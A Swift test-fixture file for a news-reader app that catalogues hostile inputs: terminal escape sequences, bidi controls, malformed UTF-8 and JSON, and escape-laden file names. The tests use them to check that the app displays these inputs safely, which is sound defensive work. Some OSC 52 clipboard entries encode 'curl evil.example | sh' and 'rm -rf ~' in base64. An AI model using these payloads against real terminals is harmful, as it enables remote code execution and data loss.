import Foundation

/// The naughty-string catalogue: hostile text a scraped article may carry, and hostile files a
/// compromised site may leave in the data directory.
///
/// Shared by the end-to-end tests (which write it into data directories and run the binary)
/// and by the UI tests (which render it through the reader); `Tests/GazetteUITests` holds a
/// symbolic link to this file. It needs nothing but Foundation for that reason.
public enum NaughtyInputs {
  /// One hostile string, named for what it attacks.
  public struct Entry: Sendable {
    /// A short name, usable in a file name.
    public let name: String
    /// The hostile text.
    public let text: String
    /// Text a reader must see in the title line once the entry is shown harmlessly (the
    /// visible substitutes of its controls), when a short exact form exists.
    public let visible: String?
    /// A fragment of the warning `gazette check` gives for an article carrying the text in
    /// every field, when one is due (text over the length limit).
    public let warning: String?

    /// Creates an entry.
    public init(_ name: String, _ text: String, visible: String? = nil, warning: String? = nil) {
      self.name = name
      self.text = text
      self.visible = visible
      self.warning = warning
    }
  }

  /// A hostile file written byte for byte, with what `gazette check` must say about it.
  public struct File: Sendable {
    /// The file name (ends in `.json`).
    public let name: String
    /// The exact bytes.
    public let bytes: [UInt8]
    /// A fragment of the one problem `gazette check` reports for the file; nil when it has none.
    public let problem: String?
    /// Articles the file gives.
    public let articles: Int

    /// Creates a file from its exact bytes.
    public init(_ name: String, _ bytes: [UInt8], problem: String?, articles: Int) {
      self.name = name
      self.bytes = bytes
      self.problem = problem
      self.articles = articles
    }

    /// Creates a file from UTF-8 text.
    public init(_ name: String, _ text: String, problem: String?, articles: Int) {
      self.init(name, Array(text.utf8), problem: problem, articles: articles)
    }
  }

  // MARK: - The catalogue

  /// Terminal control sequences: what a terminal would obey if the bytes reached it.
  public static let terminalEscapes: [Entry] = [
    Entry("csi-clear-screen", "\u{1B}[2J\u{1B}[H\u{1B}[3Jcleared", visible: "␛[2J␛[H␛[3Jcleared"),
    Entry("csi-colours", "\u{1B}[31;1;5mRED\u{1B}[0m\u{1B}[8mhidden", visible: "␛[31;1;5mRED␛[0m"),
    // Queries a terminal answers by typing into the program's input.
    Entry("csi-queries", "\u{1B}[6n\u{1B}[21t\u{1B}[c\u{1B}[>q", visible: "␛[6n␛[21t␛[c␛[>q"),
    Entry(
      "csi-cursor-moves", "top\u{1B}[1;1Hover\u{1B}[10Aup\u{1B}[999C\u{1B}[K",
      visible: "top␛[1;1Hover"),
    Entry("csi-alternate-screen", "\u{1B}[?1049l\u{1B}[?25h\u{1B}[?1000h", visible: "␛[?1049l"),
    Entry("osc0-title", "\u{1B}]0;PWNED-0\u{07}after", visible: "␛]0;PWNED-0␇after"),
    Entry("osc2-title", "\u{1B}]2;PWNED-2\u{1B}\\after", visible: "␛]2;PWNED-2␛\\after"),
    Entry(
      "osc8-link", "\u{1B}]8;;https://evil.example/\u{1B}\\click\u{1B}]8;;\u{1B}\\",
      visible: "␛]8;;https://evil.example/␛\\click"),
    Entry(
      "osc52-clipboard", "\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}",
      visible: "␛]52;c;Y3VybCBl"),
    Entry(
      "osc52-clipboard-st", "\u{1B}]52;p;cm0gLXJmIH4=\u{1B}\\", visible: "␛]52;p;cm0gLXJmIH4=␛\\"),
    Entry("osc-palette", "\u{1B}]4;1;rgb:ff/00/00\u{07}\u{1B}]104\u{07}", visible: "␛]4;1;rgb"),
    Entry("dcs-requests", "\u{1B}P$qm\u{1B}\\\u{1B}Pq#0;2;0;0;0#0~~\u{1B}\\", visible: "␛P$qm␛\\"),
    Entry(
      "dcs-tmux-passthrough", "\u{1B}Ptmux;\u{1B}\u{1B}]52;c;cHduZWQ=\u{07}\u{1B}\\",
      visible: "␛Ptmux;␛␛]52;c;"),
    Entry("apc-graphics", "\u{1B}_Gf=100,a=T;iVBORw0KGgo=\u{1B}\\", visible: "␛_Gf=100"),
    Entry("pm-and-sos", "\u{1B}^private\u{1B}\\\u{1B}Xstring\u{1B}\\", visible: "␛^private␛\\␛X"),
    Entry("c1-csi", "\u{9B}31mC1 red\u{9B}2J", visible: "\u{FFFD}31mC1 red\u{FFFD}2J"),
    Entry(
      "c1-string-controls", "\u{9D}0;PWNED-C1\u{9C}\u{90}q\u{9C}\u{9F}apc\u{9C}\u{9E}pm\u{98}",
      visible: "\u{FFFD}0;PWNED-C1\u{FFFD}"),
    Entry("c1-line-controls", "one\u{85}two\u{84}three\u{8D}four\u{88}"),
    Entry("bel", "ding\u{07}\u{07}\u{07}dong", visible: "ding␇␇␇dong"),
    Entry("backspace-overwrite", "SAFE\u{08}\u{08}\u{08}\u{08}EVIL", visible: "SAFE␈␈␈␈EVIL"),
    Entry("carriage-return-overwrite", "Pay Alice 10\rPay Mallory 9999", visible: "Alice 10"),
    Entry("erase-after-return", "ok\r\u{1B}[2Kfake", visible: "␛[2Kfake"),
    Entry("charset-shifts", "\u{0E}out\u{0F}\u{1B}(0lqqk\u{1B}(B\u{1B})0", visible: "␎out␏␛(0lqqk"),
    Entry(
      "reset-and-alignment", "\u{1B}c\u{1B}#8\u{1B}7\u{1B}8\u{1B}D\u{1B}M", visible: "␛c␛#8␛7␛8"),
    Entry("other-c0-and-del", "a\u{7F}b\u{0B}c\u{0C}d\u{18}e\u{1A}f\u{1C}g", visible: "a␡b"),
    Entry("nul", "a\u{0}b\u{0}c", visible: "a␀b␀c"),
  ]

  /// Bidirectional controls (Trojan Source, CVE-2021-42574) and right-to-left text.
  public static let bidiControls: [Entry] = [
    Entry(
      "bidi-override", "\u{202E}txet desrever\u{202C} normal",
      visible: "\u{FFFD}txet desrever\u{FFFD} normal"),
    Entry("bidi-embeddings", "\u{202D}a\u{202A}b\u{202B}c\u{202C}", visible: "\u{FFFD}a\u{FFFD}b"),
    Entry(
      "bidi-isolates-trojan-source", "role != \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\"",
      visible: "user\u{FFFD} \u{FFFD}// admin\u{FFFD}"),
    Entry("bidi-marks", "a\u{200E}b\u{200F}c\u{061C}d", visible: "a\u{FFFD}b\u{FFFD}c\u{FFFD}d"),
    Entry("bidi-unterminated", "x\u{202E}\u{2067}\u{202B}"),
    Entry("right-to-left-text", "שלום עולם مرحبا بالعالم 123"),
  ]

  /// Characters that take no cell, combine without limit or pair up oddly.
  public static let invisibleAndCombining: [Entry] = [
    Entry("zwj-run", "a" + String(repeating: "\u{200D}", count: 1_000) + "b"),
    Entry(
      "zwj-emoji-families",
      String(repeating: "👨\u{200D}👩\u{200D}👧\u{200D}👦", count: 30) + "\u{200D}\u{200D}👍🏽"),
    Entry("zwj-leading", String(repeating: "\u{200D}", count: 10) + "x"),
    Entry(
      "combining-10000-on-one-base",
      "e" + String(repeating: "\u{301}", count: 10_000) + " end",
      warning: "is longer than 16,384 bytes; the rest is cut"),
    Entry("combining-without-base", String(repeating: "\u{301}\u{20DD}", count: 300) + "x"),
    Entry("zalgo", zalgo("ZALGO comes")),
    Entry("lone-regional-indicators", "\u{1F1EF} x \u{1F1F5}\u{1F1EF}\u{1F1F5}\u{1F1EF}"),
    Entry("regional-indicator-run", String(repeating: "\u{1F1FA}", count: 101)),
    Entry(
      "zero-width-format", "in\u{200B}vis\u{FEFF}ible\u{AD}\u{2060}\u{E0001}!",
      visible: "invisible!"),
    Entry("line-separators", "one\u{2028}two\u{2029}three"),
    Entry(
      "unassigned-and-noncharacters",
      scalars(0x378, 0xFFFF, 0xFDD0, 0x1FFFE, 0x1FAE8, 0x31350, 0x10FFFD) + "!"),
    Entry("variation-selectors", "\u{FE0F}\u{FE0E}x\u{FE0F}\u{E0100}❤️1️⃣"),
    Entry("hangul-jamo-fragments", "\u{1161}\u{11A8}\u{1100}\u{1100}\u{1161}"),
    Entry("interlinear-annotation", "\u{FFF9}base\u{FFFA}ruby\u{FFFB}"),
    Entry(
      "tag-sequences", "🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F} lone \u{E0041}"),
    Entry("emoji-modifier-orphans", "🏽🏽🏽 x\u{1F3FB}"),
    Entry("private-use", "\u{E000}\u{F8FF}\u{F0000}"),
    Entry("fake-borders", "│││ ─── ┼ ║ █", visible: "│││ ─── ┼"),
    Entry("tabs", "a\tb\t\tc", visible: "a b  c"),
    Entry(
      "json-lookalike", "\"},{\"title\":\"injected\\u001b",
      visible: "\"},{\"title\":\"injected\\u001b"),
  ]

  /// Text that is long or wide rather than strange.
  public static let longAndWide: [Entry] = [
    Entry(
      "title-100000-characters", String(repeating: "長", count: 100_000),
      warning: "is longer than 1,000 characters; the rest is cut"),
    Entry(
      "word-without-breaks", String(repeating: "x", count: 3_000),
      warning: "is longer than 1,000 characters; the rest is cut"),
    Entry(
      "spaces-run", "a" + String(repeating: " ", count: 5_000) + "b",
      warning: "is longer than 1,000 characters; the rest is cut"),
    Entry("wide-everywhere", String(repeating: "中Ａ👍ｶﾞ한", count: 40)),
  ]

  /// Every naughty string.
  public static let all: [Entry] =
    terminalEscapes + bidiControls + invisibleAndCombining + longAndWide

  /// The scalars with these values (Swift literals refuse some noncharacters).
  public static func scalars(_ values: UInt32...) -> String {
    var result = ""
    for value in values {
      if let scalar = Unicode.Scalar(value) { result.unicodeScalars.append(scalar) }
    }
    return result
  }

  /// `text` with dozens of combining marks on every letter.
  public static func zalgo(_ text: String) -> String {
    var result = ""
    for (offset, character) in text.enumerated() {
      result.append(character)
      for mark in 0..<40 {
        let value = 0x300 + UInt32((offset * 7 + mark * 3) % 0x70)
        if let scalar = Unicode.Scalar(value) { result.unicodeScalars.append(scalar) }
      }
    }
    return result
  }

  // MARK: - Hostile files

  /// Files whose bytes, not their text, are the attack; each with the problem `check` names.
  public static let files: [File] = [
    File(
      "utf8-raw-c1-byte.json",
      Array(#"{"title": "raw "#.utf8) + [0x9B] + Array(#"31m", "body": "x"}"#.utf8),
      problem: "not valid UTF-8", articles: 0),
    File(
      "utf8-ff-byte.json",
      Array(#"{"title": "ff "#.utf8) + [0xFF, 0xFE] + Array(#"", "body": "x"}"#.utf8),
      problem: "not valid UTF-8", articles: 0),
    File(
      "utf8-overlong.json",
      Array(#"{"title": "slash "#.utf8) + [0xC0, 0xAF] + Array(#"", "body": "x"}"#.utf8),
      problem: "overlong encoding", articles: 0),
    File(
      "utf8-encoded-surrogate.json",
      Array(#"{"title": "s "#.utf8) + [0xED, 0xA0, 0x80] + Array(#"", "body": "x"}"#.utf8),
      problem: "a UTF-16 surrogate is encoded in UTF-8", articles: 0),
    File(
      "utf8-truncated.json", Array(#"{"title": "t", "body": "x"#.utf8) + [0xE4, 0xB8],
      problem: "the file ends in the middle of a character", articles: 0),
    File(
      "json-unpaired-surrogates.json",
      #"{"title": "lone \ud800 high \udc00 low \ud83d end", "source": "\udbff", "body": ["\udfff", "\ud83d\ude00 ok"]}"#,
      problem: nil, articles: 1),
    File(
      "json-raw-escape-in-string.json",
      Array(#"{"title": "raw "#.utf8) + [0x1B] + Array(#"]0;x", "body": "x"}"#.utf8),
      problem: "control character", articles: 0),
    File(
      "json-raw-escape-outside-string.json",
      Array(#"{"title": "x", "body": "y"}"#.utf8) + [0x1B] + Array("]0;PWNED".utf8) + [0x07],
      problem: "invalid JSON", articles: 0),
    File(
      "json-nested-200000-arrays.json",
      String(repeating: "[", count: 200_000) + String(repeating: "]", count: 200_000),
      problem: "nested more than 64 levels deep", articles: 0),
    File(
      "json-nested-100000-objects.json",
      String(repeating: #"{"a":"#, count: 100_000) + "1" + String(repeating: "}", count: 100_000),
      problem: "nested more than 64 levels deep", articles: 0),
    File(
      "views-1e400.json", #"{"title": "views 1e400", "body": "x", "views": 1e400}"#,
      problem: "`views` is too large (1e400)", articles: 1),
    File(
      "views-23-digits.json",
      #"{"title": "views huge", "body": "x", "views": 99999999999999999999999}"#,
      problem: "`views` is too large (99999999999999999999999)", articles: 1),
    File(
      "views-negative.json", #"{"title": "views negative", "body": "x", "views": -3}"#,
      problem: "`views`", articles: 1),
    File(
      "duplicate-keys.json",
      #"{"title": "first", "body": "x", "title": "second \u001b]0;PWNED-DUP\u0007"}"#,
      problem: "`title` appears more than once; the last one is used", articles: 1),
    File(
      "title-100000-characters.json",
      #"{"title": ""# + String(repeating: "題", count: 100_000) + #"", "body": "x"}"#,
      problem: "`title` is longer than 1,000 characters", articles: 1),
    File(
      "top-level-string.json", #""\u001b]0;PWNED-TOP\u0007""#,
      problem: "the top level should be an article object or an array of them", articles: 0),
    File(
      "date-with-escapes.json",
      #"{"title": "date", "body": "x", "published": "\u001b[31m2023-05-05\u009b"}"#,
      problem: "`published`", articles: 1),
    File(
      "id-with-escapes.json",
      #"{"id": "\u001b]0;PWNED-ID\u0007\u202e", "title": "explicit id", "body": "x"}"#,
      problem: nil, articles: 1),
    File("empty.json", "", problem: "the file is empty", articles: 0),
  ]

  // MARK: - Writing data directories

  /// The marker that starts the title of the article made from entry number `index`
  /// (`N07`), so a test can tell on screen which article is shown.
  public static func marker(_ index: Int) -> String {
    "N" + (index < 10 ? "0" : "") + String(index)
  }

  /// The file name of the article made from entry number `index`.
  public static func fileName(_ index: Int, _ entry: Entry) -> String {
    "\(marker(index))-\(entry.name).json"
  }

  /// Writes one article file per entry, named `fileName(index, entry)`, whose title, source,
  /// body, category and url all carry the entry's text.
  public static func writeArticles(_ entries: [Entry], into directory: String) throws {
    for (index, entry) in entries.enumerated() {
      let path = directory + "/" + fileName(index, entry)
      try Data(articleJSON(entry, marker: marker(index))).write(to: URL(fileURLWithPath: path))
    }
  }

  /// The JSON of the article made from `entry`: the title and body keep non-ASCII text as
  /// raw UTF-8 (so U+009B is the bytes C2 9B in the file), the other fields escape it.
  public static func articleJSON(_ entry: Entry, marker: String) -> [UInt8] {
    let text = entry.text
    var json = "{\"title\": " + jsonString("\(marker) \(text)", asciiOnly: false)
    json += ", \"source\": " + jsonString("S\(marker) \(text)", asciiOnly: true)
    json += ", \"category\": [" + jsonString(text, asciiOnly: true) + "]"
    json += ", \"url\": " + jsonString("https://example.org/" + text, asciiOnly: true)
    json += ", \"body\": [" + jsonString("B\(marker) \(text)", asciiOnly: false)
    json += ", " + jsonString(text + " (escaped)", asciiOnly: true) + "]}"
    return Array(json.utf8)
  }

  /// `text` as a JSON string: quotes, backslashes and controls escaped; with `asciiOnly`,
  /// every non-ASCII scalar escaped too (as surrogate pairs above U+FFFF).
  public static func jsonString(_ text: String, asciiOnly: Bool) -> String {
    var result = "\""
    for scalar in text.unicodeScalars {
      switch scalar.value {
      case 0x22: result += "\\\""
      case 0x5C: result += "\\\\"
      case 0x00..<0x20, 0x7F: result += escape(scalar.value)
      case 0x80... where asciiOnly:
        if scalar.value > 0xFFFF {
          let value = scalar.value - 0x1_0000
          result += escape(0xD800 + (value >> 10)) + escape(0xDC00 + (value & 0x3FF))
        } else {
          result += escape(scalar.value)
        }
      default: result.unicodeScalars.append(scalar)
      }
    }
    return result + "\""
  }

  private static func escape(_ value: UInt32) -> String {
    let hex = String(value, radix: 16)
    return "\\u" + String(repeating: "0", count: max(0, 4 - hex.count)) + hex
  }

  /// Writes every file of `files` into `directory`.
  public static func writeFiles(_ files: [File] = files, into directory: String) throws {
    for file in files {
      try Data(file.bytes).write(to: URL(fileURLWithPath: directory + "/" + file.name))
    }
  }

  /// The name of an article file whose name is itself an OSC title sequence.
  public static let escapeFileName = "\u{1B}]0;PWNED-NAME\u{07}\u{9B}2J.json"

  /// Writes two files whose names are the attack; returns how the second one's name reads.
  ///
  /// One is named with an OSC sequence (it loads; its id is that name), the other's name is
  /// not UTF-8 (a problem: `gazette check` shows it with U+FFFD for the bad bytes).
  @discardableResult
  public static func writeHostileNames(into directory: String) throws -> String {
    try Data(#"{"title": "named by escapes", "body": "x"}"#.utf8)
      .write(to: URL(fileURLWithPath: directory + "/" + escapeFileName))
    let name: [UInt8] = Array("bad-".utf8) + [0xFF, 0x9B] + Array("name.json".utf8)
    let path = Array(directory.utf8) + [UInt8(ascii: "/")] + name + [0]
    let descriptor = path.withUnsafeBytes { bytes -> Int32 in
      guard let start = bytes.baseAddress else { return -1 }
      return open(start.assumingMemoryBound(to: CChar.self), O_WRONLY | O_CREAT, 0o644)
    }
    guard descriptor >= 0 else { throw CocoaError(.fileWriteUnknown) }
    let content = Array(#"{"title": "bad name", "body": "x"}"#.utf8)
    _ = content.withUnsafeBytes { write(descriptor, $0.baseAddress, $0.count) }
    close(descriptor)
    return String(decoding: name, as: UTF8.self)
  }

  /// Writes an article whose body is about `megabytes` MB of CJK text with terminal escapes
  /// sprinkled through it, in one-megabyte writes; returns its file name.
  public static func writeHugeBody(megabytes: Int, into directory: String) throws -> String {
    let name = "huge-body.json"
    let path = directory + "/" + name
    guard FileManager.default.createFile(atPath: path, contents: nil) else {
      throw CocoaError(.fileWriteUnknown)
    }
    let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: path))
    defer { try? handle.close() }
    try handle.write(contentsOf: Data(#"{"title": "HUGE body", "source": "huge", "body": ""#.utf8))
    let sentence = "市民の皆様へ。本日は晴天なり。\\u001b]0;PWNED-HUGE\\u0007 \\u009b2J 공지 "
    let paragraph = String(repeating: sentence, count: 12) + "\\n\\n"
    let chunk = Data(
      String(repeating: paragraph, count: (1 << 20) / paragraph.utf8.count).utf8)
    var written = 0
    while written < megabytes * 1_000_000 {
      try handle.write(contentsOf: chunk)
      written += chunk.count
    }
    try handle.write(contentsOf: Data("THE END\"}".utf8))
    return name
  }
}
